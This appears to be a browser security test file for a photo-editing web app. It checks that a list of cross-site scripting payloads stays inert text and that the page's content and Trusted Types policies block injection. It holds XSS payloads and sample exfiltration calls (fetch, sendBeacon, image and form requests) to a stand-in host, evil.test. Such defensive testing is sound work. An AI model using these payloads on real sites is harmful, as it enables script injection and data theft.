/**
 * T-12: whatever people type, no script of theirs runs. A corpus of payloads goes through every place that is shown again,
 * and the page counts what its content policy stopped: nothing, because nothing of it ever became markup. Then the policy
 * itself is tried, as somebody who had found a hole would.
 */
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrowser, type Visit, visit } from '../browser.ts'
import { makePhoto } from './photo.ts'
import { type RunningServer, startServer } from './running-server.ts'

const payloads = [
  '<script>window.stolen=1</script>',
  '"><img src=x onerror=window.stolen=1>',
  "'><svg onload=window.stolen=1>",
  '<iframe srcdoc="<script>parent.stolen=1</script>">',
  'javascript:window.stolen=1//',
  '</title><script>window.stolen=1</script>',
  '{{constructor.constructor("window.stolen=1")()}}',
  '$\u007bwindow.stolen=1}',
  '<math><mtext><style><img src=x onerror=window.stolen=1></style></mtext></math>',
  '<a href="javascript:window.stolen=1">click</a>',
  '\u202e<b>gnp.exe</b>',
  '<!--><img src=x onerror=window.stolen=1>-->',
  '<form action="https://evil.test"><input name=password></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
]

let server: RunningServer
let browser: Browser
let person: Visit
let page: Page

declare global {
  interface Window {
    stolen?: number
    stopped: string[]
  }
}

beforeAll(async () => {
  server = await startServer()
  browser = await openBrowser()
  person = await visit(browser, server.origin)
  page = person.page
  page.on('dialog', dialog => {
    person.faults.push(`a dialog opened: ${dialog.message()}`)
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    window.stopped = []
    addEventListener('securitypolicyviolation', event =>
      window.stopped.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`),
    )
  })
  await page.goto(server.setUpLink)
  await page.getByLabel('Name').fill(payloads[1] ?? '')
  await page.getByLabel('E-mail').fill('ada@example.org')
  await page.getByLabel('Password', { exact: true }).fill('a quiet sentence')
  await page.getByRole('button', { name: 'Create owner' }).click()
  await page.getByTestId('choose').waitFor({ state: 'attached' })
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await server?.stop()
}, 60_000)

async function expectQuiet(where: string): Promise<void> {
  expect(await page.evaluate(() => window.stolen), where).toBeUndefined()
  expect(await page.evaluate(() => window.stopped), where).toEqual([])
  expect(new URL(page.url()).origin, where).toBe(server.origin)
  expect(person.foreignHosts, where).toEqual([])
}

/** Through the API, as the page itself would send it: faster than typing, and shown by the page all the same. */
const call = (path: string, body: object) =>
  page.evaluate(
    async ([to, sent]) => {
      const answer = await fetch(to as string, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(sent),
      })
      return { status: answer.status, body: await answer.json() }
    },
    [path, body] as const,
  )

describe('what people type', () => {
  it('stays text: names of keys, and the name of the person', async () => {
    for (const name of payloads) expect((await call('/api/keys', { name })).status).toBe(201)
    await page.goto('/settings')
    await page
      .getByText(payloads[0] ?? '', { exact: true })
      .first()
      .waitFor()
    for (const name of payloads.filter(text => !text.includes('\u202e')))
      expect(await page.getByText(name, { exact: true }).count(), name).toBeGreaterThan(0)
    await page.getByRole('button', { name: 'Revoke' }).first().click()
    await page.getByRole('alertdialog').waitFor()
    await expectQuiet('settings')
    await page.keyboard.press('Escape')
  }, 60_000)

  it('stays text: instructions and the names of files', async () => {
    const buffer = await makePhoto(160, 120)
    await page.goto('/studio')
    for (const [index, payload] of payloads.entries()) {
      const name = `${payload.replaceAll('/', '∕')}.png`
      await page.getByTestId('choose').setInputFiles({ name, mimeType: 'image/png', buffer })
      const field = page.getByRole('textbox', { name: 'Say what should change' })
      await field.waitFor()
      await field.fill(`sepia ${payload}`)
      // The page reads the words back: as steps, and as what it did not understand.
      await page.waitForTimeout(index < 3 ? 900 : 250)
    }
    await page.getByRole('textbox', { name: 'Say what should change' }).press('Control+Enter')
    await page.getByRole('slider', { name: 'Before and after' }).waitFor({ state: 'attached', timeout: 60_000 })
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'All edits' }).click()
    await page.waitForLoadState('networkidle')
    await expectQuiet('studio')
  }, 120_000)

  it('stays text in addresses', async () => {
    for (const payload of payloads) {
      for (const path of ['/sign-in?to=', '/studio?picture=', '/studio?run=', '/setup?token=', '/'])
        await page.goto(path + encodeURIComponent(payload).replaceAll('%2F', '/')).catch(() => {})
    }
    await expectQuiet('addresses')
    expect(person.faults.filter(fault => !/^Failed to load/.test(fault))).toEqual([])
  }, 120_000)
})

describe('the policy itself', () => {
  const inPage = async (run: () => unknown): Promise<unknown> => {
    await page.goto('/settings')
    await page.getByRole('main').waitFor()
    return page.evaluate(run)
  }

  it('lets nobody turn text into markup or into the address of a script', async () => {
    const outcome = await inPage(() => {
      const tries: Record<string, () => void> = {
        innerHTML: () => {
          document.body.innerHTML = '<img src=x onerror=window.stolen=1>'
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.stolen=1>'),
        write: () => document.write('<script>window.stolen=1</script>'),
        'script.src': () => {
          document.createElement('script').src = '/theme.js'
        },
        'script.text': () => {
          document.createElement('script').text = 'window.stolen=1'
        },
        'an attribute that is a script': () => document.createElement('img').setAttribute('onerror', 'window.stolen=1'),
        worker: () => void new Worker('/theme.js'),
        parser: () => void new DOMParser().parseFromString('<b>', 'text/html'),
        srcdoc: () => {
          document.createElement('iframe').srcdoc = '<script>parent.stolen=1</script>'
        },
        'another policy': () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown }
          }
          trustedTypes.createPolicy('evil', { createHTML: (text: string) => text })
        },
        'our policy again': () => {
          const { trustedTypes } = window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown }
          }
          trustedTypes.createPolicy('default', { createHTML: (text: string) => text })
        },
      }
      return Object.fromEntries(
        Object.entries(tries).map(([name, run]) => {
          try {
            run()
            return [name, 'done']
          } catch (error) {
            return [name, (error as Error).name]
          }
        }),
      )
    })
    for (const [name, result] of Object.entries(outcome as Record<string, string>))
      expect(result, name).toBe('TypeError')
    expect(await page.evaluate(() => window.stolen)).toBeUndefined()
  })

  it('runs no script without the nonce, and sends nothing elsewhere', async () => {
    await inPage(async () => {
      const image = document.createElement('img')
      image.src = 'https://evil.test/?secret'
      document.body.append(image)
      const link = document.createElement('a')
      link.href = 'javascript:window.stolen=1'
      document.body.append(link)
      link.click()
      await fetch('https://evil.test/').catch(() => {})
      navigator.sendBeacon('https://evil.test/', 'secret')
      const form = document.createElement('form')
      form.action = 'https://evil.test/'
      document.body.append(form)
      form.submit()
      await new Promise(resolve => setTimeout(resolve, 300))
    })
    expect(await page.evaluate(() => window.stolen)).toBeUndefined()
    const stopped = await page.evaluate(() => window.stopped)
    for (const directive of ['img-src', 'connect-src', 'form-action', 'script-src'])
      expect(stopped.join('\n'), directive).toContain(directive)
    expect(page.url()).toContain('/settings')
  })
})
